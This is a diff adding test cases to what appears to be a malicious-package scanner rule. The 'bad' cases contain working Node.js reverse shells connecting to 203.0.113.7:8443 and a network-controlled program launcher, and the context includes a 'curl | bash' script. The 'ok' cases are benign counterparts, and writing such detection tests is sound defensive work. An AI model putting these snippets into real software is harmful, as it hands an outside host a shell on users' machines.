@@ -3,6 +3,27 @@ import { defineCases } from '../../src/rule.ts';
 export default defineCases({
   bad: [
     {
+      name: 'a shell that is wired to a connection, when a function is called',
+      alone: 'block',
+      code: "const { spawn } = require('child_process'); const { connect } = require('net');\nexports.tidy = () => {\n  if (!/^deploy-/.test(require('os').hostname())) return;\n  const socket = connect({ host: '203.0.113.7', port: 8443 }, () => {\n    const worker = spawn(process.env.SHELL ?? '/bin/sh', ['-i'], { stdio: 'pipe' });\n    socket.pipe(worker.stdin); worker.stdout.pipe(socket);\n  });\n};",
+    },
+    {
+      name: 'the same through a socket that is connected later',
+      alone: 'block',
+      code: "const { spawn } = require('child_process'); const net = require('net');\nexports.tidy = () => {\n  const socket = new net.Socket({ allowHalfOpen: true });\n  socket.connect(8443, '203.0.113.7', () => { const worker = spawn('bash'); socket.pipe(worker.stdin); worker.stdout.pipe(socket); });\n};",
+    },
+    {
+      name: 'a method that is named by what came over the network, and a program that another module starts',
+      alone: 'block',
+      manifest: { type: 'module' },
+      files: {
+        'index.js':
+          "import { follow } from './sources.js';\nclass Relay {\n  async run() { const answer = await fetch('https://relay.example/events');\n    for (const { name, data } of await answer.json()) this[`on_${name}`]?.(data); }\n  on_line({ text }) { console.log(text); }\n  on_attach({ file, via }) { follow(file, console.log, via); }\n}\nawait new Relay().run();",
+        'sources.js':
+          "import { spawn } from 'node:child_process';\nfunction commandFor(file, via) { return via ? [via[0], via.slice(1)] : ['tail', ['-F', '--', file]]; }\nexport function follow(file, told, via) { const [program, args] = commandFor(file, via); spawn(program, args).stdout.on('data', told); }",
+      },
+    },
+    {
       name: 'a command that is a script of a shell',
       manifest: { main: undefined, bin: 'tides' },
       files: { tides: '#!/usr/bin/env bash\ncurl -fsSL https://tides.example/x | bash\n' },
@@ -287,6 +308,29 @@ export default defineCases({
     },
   ],
   ok: [
+    {
+      name: 'a program that unpacks what comes over a connection, and a shell for who sits before it',
+      code: "const { spawn } = require('child_process'); const net = require('net');\nexports.load = (file) => {\n  const socket = new net.Socket();\n  socket.connect(8443, 'backups.example', () => { const worker = spawn('gzip', ['-d']); socket.pipe(worker.stdin); worker.stdout.pipe(require('fs').createWriteStream(file)); });\n};\nexports.shell = () => { const shell = spawn(process.env.SHELL ?? '/bin/sh', ['-i']); process.stdin.pipe(shell.stdin); shell.stdout.pipe(process.stdout); };",
+    },
+    {
+      name: 'a shell wired to a socket that is handed over by its descriptor',
+      code: "const { spawn } = require('child_process'); const net = require('net');\nexports.shell = (fd) => {\n  const socket = new net.Socket({ fd });\n  const shell = spawn('bash'); socket.pipe(shell.stdin); shell.stdout.pipe(socket);\n};",
+    },
+    {
+      name: 'a method that is named by what came over the network, and what another module gives to a program',
+      manifest: { type: 'module' },
+      files: {
+        'index.js':
+          "import { follow } from './sources.js';\nclass Relay {\n  async run() { const answer = await fetch('https://relay.example/events');\n    for (const { name, data } of await answer.json()) this[`on_${name}`]?.(data); }\n  on_line({ text }) { console.log(text); }\n  on_attach({ file, via }) { follow(file, console.log, via); }\n}\nawait new Relay().run();",
+        'sources.js':
+          "import { spawn } from 'node:child_process';\nfunction commandFor(file, via) { return via ? ['journalctl', ['--unit', via]] : ['tail', ['-F', '--', file]]; }\nexport function follow(file, told, via) { const [program, args] = commandFor(file, via); spawn(program, args).stdout.on('data', told); }",
+      },
+    },
+    {
+      name: 'a method of another beginning than the one that is named by what came over the network',
+      manifest: { type: 'module' },
+      code: "import { spawn } from 'node:child_process';\nclass Relay {\n  async run() { const answer = await fetch('https://relay.example/events');\n    for (const { name, data } of await answer.json()) this[`on_${name}`]?.(data); }\n  on_line({ text }) { console.log(text); }\n  start({ program }) { spawn(program, []); }\n}\nawait new Relay().run();",
+    },
     {
       name: 'a script of a shell that nothing of the package runs',
       code: "require('child_process').execFileSync('git', ['status']);",
